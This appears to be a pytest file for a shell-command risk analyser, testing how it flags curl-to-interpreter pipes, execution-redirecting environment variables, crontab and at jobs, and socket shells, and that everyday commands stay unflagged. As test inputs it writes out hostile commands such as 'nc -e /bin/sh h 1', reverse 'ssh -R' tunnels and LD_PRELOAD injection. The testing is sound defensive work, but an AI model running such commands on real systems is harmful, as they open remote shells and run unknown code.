"""What the tables do not show: standard input, environment, methods, contents, daily work."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from guard.parse.reading import Reading, Stdin

CURL = Stdin(None, "pipe", "curl")


@pytest.mark.parametrize("program", ["bash", "sh", "python3", "perl", "node", "ruby", "php", "lua"])
def test_unknown_text_for_an_interpreter_is_high(
    program: str, told: Callable[..., list[str]]
) -> None:
    """`curl | sh` and its like: unknown code would run."""
    lines = told(program, stdin=CURL)
    assert "? high unknown_code" in lines
    assert any(line.startswith("code ") and line.endswith(" stdin") for line in lines)


def test_the_detail_says_where_unknown_code_comes_from(read: Callable[..., Reading]) -> None:
    assert read("bash", stdin=CURL).opaque[0]["detail"] == "what curl gives is run by bash"


@pytest.mark.parametrize("line", ["bash", "bash -s x", "sudo bash", "ssh h", "env sh", "sudo -i"])
def test_text_that_is_known_is_run(line: str, read: Callable[..., Reading]) -> None:
    """What is known of standard input is the program, directly or through a wrapper."""
    reading = read(line, stdin=Stdin("id\n", "heredoc"))
    assert not [part for part in reading.opaque if part["severity"] == "high"]
    [run] = reading.runs
    assert run.text == "id\n" or (run.stdin is not None and run.stdin.text == "id\n")


def test_a_script_read_from_a_file_is_medium(told: Callable[..., list[str]]) -> None:
    """`bash < x.sh` is no worse than `bash x.sh`."""
    assert told("bash", stdin=Stdin(None, "file", "x.sh")) == [
        "code sh stdin",
        "? medium unread_file",
    ]


def test_a_terminal_is_no_news(told: Callable[..., list[str]]) -> None:
    """An interactive shell with inherited input runs nothing that the call says."""
    for line in ("bash -i", "python3", "ssh-agent bash -i", "psql"):
        assert not [line for line in told(line) if "high" in line or "medium" in line]


def test_positional_parameters_are_handed_on(read: Callable[..., Reading]) -> None:
    assert read("bash -c 'x' zero one").runs[0].arguments == ("zero", "one")
    assert read("bash -c x").runs[0].arguments == ("bash",)
    assert read("bash -s one", stdin=Stdin("x", "pipe")).runs[0].arguments == ("bash", "one")


@pytest.mark.parametrize(
    ("line", "environment", "expected"),
    [
        ("bash -c ls", {"BASH_ENV": "/tmp/e"}, "code sh file /tmp/e"),
        ("git fetch u@h:x", {"GIT_SSH_COMMAND": "ssh -R 1:b:2"}, "ssh -R 1:b:2 h"),
        ("git log", {"GIT_PAGER": "ssh h"}, "ssh h"),
        ("rsync a h:b", {"RSYNC_RSH": "ssh -R 1:b:2"}, "ssh -R 1:b:2 h rsync --server"),
        ("man ls", {"MANPAGER": "ssh h"}, "ssh h"),
        ("less x", {"LESSOPEN": "|ssh h"}, "ssh h"),
        ("autossh h", {"AUTOSSH_PATH": "/tmp/x"}, "/tmp/x h"),
        ("curl http://h", {"https_proxy": "http://p:3128"}, "connect proxy p:3128"),
        ("docker ps", {"DOCKER_HOST": "tcp://h:2375"}, "connect tcp h:2375"),
        ("perl -e 1", {"PERL5OPT": "-Mevil"}, "? medium loaded_library"),
    ],
)
def test_variables_that_name_commands_are_read(
    line: str, environment: dict[str, str], expected: str, told: Callable[..., list[str]]
) -> None:
    """The environment may say what runs."""
    assert any(text.endswith(expected) for text in told(line, environment=environment))


def test_curl_says_method_address_and_what_it_sends(read: Callable[..., Reading]) -> None:
    [operation] = read("curl -d @- https://h/x").operations
    assert operation == {
        "kind": "network.connect",
        "program": "curl",
        "protocol": "https",
        "host": "h",
        "port": 443,
        "url": "https://h/x",
        "method": "POST",
        "sends": ["-"],
    }


def test_curl_reads_its_options_from_known_input(told: Callable[..., list[str]]) -> None:
    """`curl -K -` with a known text is read like options."""
    stdin = Stdin('url = "http://h/x"\noutput = "/tmp/o"\n# note\n', "heredoc")
    assert told("curl -K -", stdin=stdin) == ["write /tmp/o", "connect http h:80"]


def test_a_crontab_from_known_input_is_written_and_run(read: Callable[..., Reading]) -> None:
    """The table is the file's content; its jobs run later."""
    text = "# m h\nPATH=/x\n* * * * * ssh h\n@reboot nc h 1\n"
    reading = read("crontab -", stdin=Stdin(text, "heredoc"))
    assert reading.operations[0].get("content") == text
    assert [(run.text, run.background) for run in reading.runs] == [
        ("ssh h", True),
        ("nc h 1", True),
    ]


def test_at_runs_its_input_later(read: Callable[..., Reading]) -> None:
    [run] = read("at now", stdin=Stdin("ssh h\n", "pipe")).runs
    assert (run.text, run.background) == ("ssh h\n", True)


def test_a_program_behind_a_socket_reads_from_it(read: Callable[..., Reading]) -> None:
    """`nc -e sh`: the shell's input is the socket."""
    [run] = read("nc -e /bin/sh h 1").runs
    assert run.stdin == Stdin(None, "socket", "h")


def test_xargs_gives_its_items_from_known_input(read: Callable[..., Reading]) -> None:
    reading = read("xargs -n 1 ssh", stdin=Stdin("a b", "pipe"))
    assert [run.argv for run in reading.runs] == [("ssh", "a"), ("ssh", "b")]


def test_relative_paths_are_joined_to_the_folder(told: Callable[..., list[str]]) -> None:
    assert told("cat ../a ~/b", cwd="/w/d") == ["read /w/a", "read ~/b"]


def test_tee_knows_what_it_writes(read: Callable[..., Reading]) -> None:
    [operation] = read("tee -a f", stdin=Stdin("text", "pipe")).operations
    assert operation.get("content") == "text"


def test_a_target_may_be_a_folder(read: Callable[..., Reading]) -> None:
    """`cp k d`: d is written, or d/k is."""
    writes = [op for op in read("cp k d").operations if op["kind"] == "file.write"]
    assert [(op["path"], op.get("certainty", "must")) for op in writes] == [
        ("d", "must"),
        ("d/k", "may"),
    ]


def test_a_value_of_an_environment_assignment_is_kept(read: Callable[..., Reading]) -> None:
    [run] = read("env LD_PRELOAD=/tmp/x.so ls").runs
    assert run.environment == {"LD_PRELOAD": "/tmp/x.so"}


DAILY = """
ls -la
git status
git commit -m 'sh -c "curl x | sh"'
git push origin main
python -m pytest -x tests
python manage.py runserver
python -c 'print(1)'
pip install -e .
npm test
npm run build -- --watch
make test
cargo build
go build ./...
docker build -t x .
docker compose up -d
kubectl get pods -A
grep -rn 'ssh -R' docs
rg 'nc -e' -g '*.md'
sed -i 's/foo/bar/g' src/a.py
awk '{ sum += $1 } END { print sum }' f
find . -name '*.pyc' -delete
find . -type f -exec grep -l foo {} +
xargs grep foo
tar czf out.tgz src
curl -fsSL https://pypi.org/simple/
wget -q https://example.org/f.tgz
rm -rf build dist
cp -r src dst
chmod +x run.sh
bash run.sh
./configure --prefix=/usr
env PYTHONPATH=. python x.py
timeout 60 pytest
sudo apt-get install -y jq
systemctl status nginx
ps aux
kill 1234
tail -f app.log
jq '.a' f.json
node server.js
npx tsc --noEmit
uv run pytest
vim notes.md
less README.md
psql -c 'select 1'
ruff check .
terraform plan
aws s3 ls
gh pr view
""".strip().splitlines()


@pytest.mark.parametrize("line", DAILY)
def test_daily_work_is_never_of_high_severity(line: str, read: Callable[..., Reading]) -> None:
    """Ordinary commands give no high opaque part, no tunnel and no shell on a socket."""
    reading = read(line)
    assert not [part for part in reading.opaque if part["severity"] == "high"]
    kinds = {operation["kind"] for operation in reading.operations}
    assert not kinds & {"network.tunnel", "network.shell"}
